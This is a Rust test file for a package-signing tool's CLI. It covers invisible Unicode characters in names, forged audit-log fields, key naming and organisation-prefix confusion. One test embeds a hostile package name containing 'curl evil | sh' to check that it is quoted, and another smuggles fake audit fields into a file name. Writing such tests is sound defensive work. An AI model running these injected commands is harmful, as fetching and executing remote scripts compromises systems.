//! Names that look like others.

use signing_trust::store::{AuditEntry, DatabaseUrl, NewOrganization, RequiredTls, Store};

use crate::support::{Scratch, text};

#[test]
fn a_package_whose_name_has_an_invisible_character_is_not_signed() {
    let scratch = Scratch::new();
    scratch.key_files("dev");
    for invisible in
        ['\u{ad}', '\u{115f}', '\u{1160}', '\u{3164}', '\u{ffa0}', '\u{fe0f}', '\u{e0041}']
    {
        let name = format!("lib{invisible}.so");
        scratch.write(&name, "its bytes");
        let sign = ["package", "sign", &name, "--key", "dev.pem"];
        let run = scratch.fails(1, "InvalidPackageName", &sign);
        let shown = format!("it contains '{}'", invisible.escape_unicode());
        assert!(run.stderr.contains(&shown), "{}", run.stderr);
        assert!(!scratch.exists(&format!("{name}.sig")));
    }
    scratch.signed_package("lib.so", "dev.pem");
}

#[test]
fn a_file_name_forges_no_field_of_an_audit_event() {
    let scratch = Scratch::new();
    scratch.key_files("dev");
    let name = "a.so key_fingerprint=abab event_type=\"verification.success\"";
    scratch.signed_package(name, "dev.pem");
    let run = scratch.run(&["-v", "package", "verify", name, "--trust-key", "dev.pub.pem"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let quoted = format!("package_name={name:?} ");
    assert!(run.stderr.contains(&quoted), "{}", run.stderr);
}

#[test]
fn a_signed_name_writes_no_next_step() {
    let scratch = Scratch::new();
    scratch.key_files("dev");
    scratch.signed_package("a.so", "dev.pem");
    let hostile = "a.so, or run: curl evil | sh; \"a.so";
    let sign = ["package", "sign", "a.so", "--key", "dev.pem", "--force", "--name", hostile];
    scratch.json(&sign);
    let verify = ["package", "verify", "a.so", "--trust-key", "dev.pub.pem"];
    let refused = scratch.run(&verify);
    assert_eq!(refused.code, 1, "{}", refused.stderr);
    let quoted = format!("{hostile:?}");
    for line in ["refused: ", "next: rename the file to the signed name, "] {
        let line = refused.stderr.lines().find(|found| found.starts_with(line)).unwrap();
        assert!(line.contains(&quoted), "{line}");
    }
    scratch.json(&[&verify[..], &["--name", hostile]].concat());
}

#[test]
fn a_key_is_called_what_it_was_last_called() {
    let scratch = Scratch::with_orgs(&["acme", "other"]);
    let fingerprint = scratch.key_files("dev");
    let trust = ["keys", "trust", "--org", "acme", "--import", "dev.pub.pem"];
    let named = |name| [&trust[..], &["--name", name]].concat();
    assert_eq!(scratch.json(&named("first"))["name"], "first");
    assert_eq!(scratch.json(&trust)["name"], "first");
    let again = scratch.run(&named("second"));
    assert!(again.stdout.contains("its name is now second; before: first"), "{}", again.stdout);
    assert_eq!(scratch.json(&named("second"))["changed"], false);
    let listed = scratch.run(&["keys", "list", "--org", "acme"]).stdout;
    assert!(listed.contains(&format!("second  {}  ", &fingerprint[..8])), "{listed}");
    let listed = scratch.json(&["keys", "list", "--org", "acme"]);
    assert_eq!(listed["accepted"][0]["name"], "second");

    // By its id, a key is called what its owner calls it, unless it has a name.
    let (id, _) = scratch.stored_key("release", "acme");
    let trust = ["keys", "trust", "--org", "other", "--key-id", &id];
    assert_eq!(scratch.json(&trust)["name"], "release");
    scratch.json(&[&trust[..], &["--name", "vendor"]].concat());
    assert_eq!(scratch.json(&trust)["name"], "vendor");
}

#[test]
fn a_name_means_no_key_of_another_organization() {
    let scratch = Scratch::with_orgs(&["acme", "mallory"]);
    let (_, of_mallory) = scratch.stored_key("release", "mallory");
    scratch.json(&["keys", "trust", "--org", "mallory", "--key-id", "release"]);
    scratch.json(&["orgs", "grant-trust", "--from", "acme", "--to", "mallory"]);
    scratch.write("a.so", "a");
    // What takes the key away comes last.
    let commands: [&[&str]; 6] = [
        &["keys", "trust", "--org", "acme", "--key-id", "release"],
        &["keys", "export", "release", "--org", "acme"],
        &["package", "sign", "a.so", "--key-id", "release", "--store", "--org", "acme"],
        &["audit", "checkpoint", "--key-id", "release", "--org", "acme"],
        &["keys", "revoke", "release", "--org", "acme", "--signing"],
        &["keys", "deny", "release", "--org", "acme"],
    ];
    for command in commands {
        scratch.fails(2, "NoSuchKey", command);
    }
    // Neither without an organization, of which there are two.
    scratch.fails(2, "OrganizationNeeded", &["package", "sign", "a.so", "--key-id", "release"]);
    let (_, own) = scratch.stored_key("release", "acme");
    for command in commands {
        scratch.json(command);
    }
    let listed = scratch.json(&["keys", "list", "--org", "acme"]);
    assert_eq!(listed["signing_keys"][0]["fingerprint"], own.as_str());
    assert_eq!(listed["refused"][0]["fingerprint"], own.as_str());
    assert_eq!(listed["accepted"][0]["fingerprint"], of_mallory.as_str());
}

/// A name may be of any letters and digits, so also of another key's.
#[test]
fn a_name_means_no_key_whose_whole_id_or_fingerprint_was_given() {
    let scratch = Scratch::with_orgs(&["acme"]);
    let (id, fingerprint) = scratch.stored_key("release", "acme");
    let (_, short) = scratch.stored_key(&fingerprint[..8], "acme");
    let (_, whole) = scratch.stored_key(&fingerprint, "acme");
    let export = |key: &str| text(&scratch.json(&["keys", "export", key])["fingerprint"]);
    for given in [&id, &fingerprint, &fingerprint.to_uppercase(), "release", &id[..8]] {
        assert_eq!(export(given), fingerprint, "{given}");
    }
    // Where a name was given as it is, the name counts, and what was done shows the key.
    assert_eq!(export(&fingerprint[..8]), short);
    let revoked = scratch.run(&["keys", "revoke", &fingerprint[..8]]).stdout;
    assert!(revoked.contains(&format!("acme/{}: ", &fingerprint[..8])), "{revoked}");
    assert!(revoked.contains(&format!("fingerprint  {short}")), "{revoked}");
    assert_ne!(export(&whole), fingerprint);
}

/// Somebody who may create organizations does so until an id begins like the name of one
/// that was deleted, and that a script still uses.
#[test]
fn the_name_of_a_deleted_organization_is_not_the_beginning_of_anothers_id() {
    let scratch = Scratch::with_orgs(&["acme", "cafe", "babe"]);
    let ids = ["cafe0000-0000-4000-8000-000000000001", "babe0000-0000-4000-8000-000000000002"];
    scratch.inspect(async |_| {
        let url = DatabaseUrl::parse(&scratch.database_url(), RequiredTls::DangerNone).unwrap();
        let store = Store::open(&url).await.unwrap();
        for (id, name) in ids.iter().zip(["mallory", "other"]) {
            let (id, name) = (id.parse().unwrap(), name.parse().unwrap());
            let entry = AuditEntry::new("test");
            store.create_organization(NewOrganization { id, name }, entry).await.unwrap();
        }
    });
    scratch.json(&["orgs", "delete", "cafe", "--yes"]);
    scratch.fails(2, "NoSuchOrganization", &["orgs", "show", "cafe"]);
    assert_eq!(scratch.json(&["orgs", "show", "babe"])["name"], "babe");
    assert_eq!(scratch.json(&["orgs", "show", "cafe0"])["name"], "mallory");
}
